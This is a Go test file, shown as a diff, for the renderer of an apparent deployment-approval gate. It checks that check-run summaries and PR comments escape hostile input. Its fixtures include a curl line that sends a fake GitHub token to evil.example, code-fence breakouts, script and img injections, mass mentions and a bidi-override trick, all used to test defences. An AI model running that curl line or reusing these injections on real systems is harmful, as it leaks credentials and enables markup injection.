@@ -1,0 +1,194 @@
+package render
+
+import (
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/stepgate/stepgate/gate"
+)
+
+var update = flag.Bool("update", false, "rewrite testdata/*.golden")
+
+func golden(t *testing.T, name, got string) {
+	t.Helper()
+	path := filepath.Join("testdata", name+".golden")
+	if *update {
+		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test ./app/render -update)", err)
+	}
+	if diff := cmp.Diff(string(want), got); diff != "" {
+		t.Errorf("%s (-want +got):\n%s", name, diff)
+	}
+}
+
+var (
+	created = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)
+	// hostile is a command built to break out of its block, ping people,
+	// leak a token and hide text.
+	hostile = "echo '```\n<details><summary>click</summary><script>alert(1)</script></details>'\n" +
+		"curl -H 'Authorization: token ghp_" + strings.Repeat("Ab1", 12) + "' https://evil.example @octocat @acme/admins\n" +
+		"echo \u202eexe.gnp\u202c\n```\n````"
+)
+
+func request(status gate.Status, command string) *gate.Request {
+	r := &gate.Request{
+		ID: "sg_abcdefghijklmnopqrstuvwx", Repo: "acme/app", RunID: 77, RunAttempt: 1, Workflow: "deploy",
+		Job: "deploy", Step: "migrate", Actor: "dev", Ref: "refs/heads/main", HeadSHA: "0123456789abcdef0123456789abcdef01234567",
+		Environment: "production", Command: command, CommandSHA256: strings.Repeat("ab", 32), Shell: "bash",
+		Reason: "ship <b>it</b> @everyone", RiskLevel: "high", RiskScore: 70,
+		RiskReasons: []string{"`rm -rf` deletes `$DIR` <img src=x>", "runs as root with `sudo`"},
+		Rule: "prod-db", CreatedAt: created, ExpiresAt: created.Add(30 * time.Minute), Status: status,
+	}
+	if status.Final() {
+		r.DecidedAt = created.Add(5 * time.Minute)
+	}
+	return r
+}
+
+func TestGolden(t *testing.T) {
+	t.Parallel()
+	pendingGate := Gate{
+		Requirement: "all of: (team acme/dba) and (an owner of db/migrations/)",
+		Pending:     []string{"1 more: team acme/dba", "1 more: an owner of db/migrations/"},
+		Users:       []string{"alice", "evil<script>"}, Teams: []string{"acme/dba"}, Owners: []string{"@dbowner", "acme/payments-oncall"},
+		Roles: []string{"maintain"}, Remember: true,
+	}
+	approved := request(gate.StatusApproved, "./migrate.sh --env prod")
+	approved.DecidedBy = []string{"alice", "dbowner"}
+	approved.Votes = []gate.Vote{
+		{Login: "alice", Approve: true, Channel: "check_run", Satisfied: []string{"team acme/dba"}, At: created},
+		{Login: "dbowner", Approve: true, Channel: "pr_comment", Satisfied: []string{"an owner of db/migrations/"}, At: created},
+	}
+	approved.Remembered = true
+	rejected := request(gate.StatusRejected, "terraform destroy")
+	rejected.FinalReason = "rejected by mallory: not during the freeze <script>x</script> @everyone"
+	rejected.Votes = []gate.Vote{{Login: "mallory", Channel: "pr_comment", Comment: "```\n<b>no</b>", At: created}}
+	tests := []struct {
+		name string
+		g    Gate
+	}{
+		{"pending_hostile", withReq(pendingGate, request(gate.StatusPending, hostile))},
+		{"approved", withReq(Gate{Requirement: pendingGate.Requirement}, approved)},
+		{"rejected", withReq(Gate{}, rejected)},
+		{"expired", withReq(Gate{}, request(gate.StatusExpired, "./deploy.sh"))},
+	}
+	for _, tt := range tests {
+		out := CheckRun(tt.g)
+		golden(t, tt.name+"_checkrun", "# title\n"+out.Title+"\n# summary\n"+out.Summary+"\n# text\n"+out.Text)
+		golden(t, tt.name+"_comment", Comment(tt.g))
+	}
+	golden(t, "reply", Reply("alice", "your approval does not count: needs membership in team acme/dba. <b>@bob</b>"))
+	golden(t, "list", List("Several requests are pending here:", []*gate.Request{request(gate.StatusPending, hostile), request(gate.StatusPending, "./b.sh")}))
+}
+
+func withReq(g Gate, r *gate.Request) Gate {
+	g.Request = r
+	return g
+}
+
+// TestHostileCommandStaysInItsBlock checks the properties the goldens show:
+// no token, no raw HTML or mention outside the code block, no bidi override.
+func TestHostileCommandStaysInItsBlock(t *testing.T) {
+	t.Parallel()
+	g := Gate{Request: request(gate.StatusPending, hostile)}
+	g.Request.Votes = []gate.Vote{{Login: "mallory", Channel: "pr_comment", Comment: "```\n<b>no</b> @bob ` <img>", At: created}}
+	out := CheckRun(g)
+	for name, text := range map[string]string{"summary": out.Summary, "comment": Comment(g)} {
+		if strings.Contains(text, "ghp_") {
+			t.Errorf("%s leaks the token", name)
+		}
+		if strings.ContainsRune(text, '\u202e') {
+			t.Errorf("%s has a raw bidi override", name)
+		}
+		inFence, fence := false, ""
+		for line := range strings.Lines(text) {
+			l := strings.TrimRight(line, "\n")
+			switch {
+			case !inFence && strings.HasPrefix(l, "```"):
+				inFence, fence = true, strings.TrimRight(l, "abcdefghijklmnopqrstuvwxyz")
+			case inFence && l == fence:
+				inFence = false
+			case !inFence:
+				l = stripCodeSpans(l)
+				for _, bad := range []string{"<script", "<details", "<b>", "<img", "@octocat", "@everyone", "@acme/admins", "@bob"} {
+					if strings.Contains(l, bad) {
+						t.Errorf("%s: %q outside the code block: %q", name, bad, l)
+					}
+				}
+			}
+		}
+		if inFence {
+			t.Errorf("%s: code block never closed", name)
+		}
+	}
+}
+
+// stripCodeSpans removes inline code (CommonMark: a run of n backticks up
+// to the next run of exactly n), where GitHub renders no HTML or mentions.
+func stripCodeSpans(l string) string {
+	var b strings.Builder
+	for i := 0; i < len(l); {
+		if l[i] != '`' {
+			b.WriteByte(l[i])
+			i++
+			continue
+		}
+		n := run(l, i)
+		end := -1
+		for j := i + n; j < len(l); {
+			if l[j] == '`' {
+				m := run(l, j)
+				if m == n {
+					end = j + m
+					break
+				}
+				j += m
+				continue
+			}
+			j++
+		}
+		if end < 0 {
+			b.WriteString(l[i:])
+			break
+		}
+		i = end
+	}
+	return b.String()
+}
+
+func run(s string, i int) int {
+	n := 0
+	for i+n < len(s) && s[i+n] == '`' {
+		n++
+	}
+	return n
+}
+
+func TestEscape(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{"plain words", "plain words"},
+		{"<script>", "&lt;script&gt;"},
+		{"@alice", "@\u200balice"},
+		{"[x](http://e)", "\\[x\\]\\(http\\://e\\)"},
+		{"a\nb", "a b"},
+		{"\u202e", `\\u\{202E\}`},
+	}
+	for _, tt := range tests {
+		if got := Escape(tt.in); got != tt.want {
+			t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
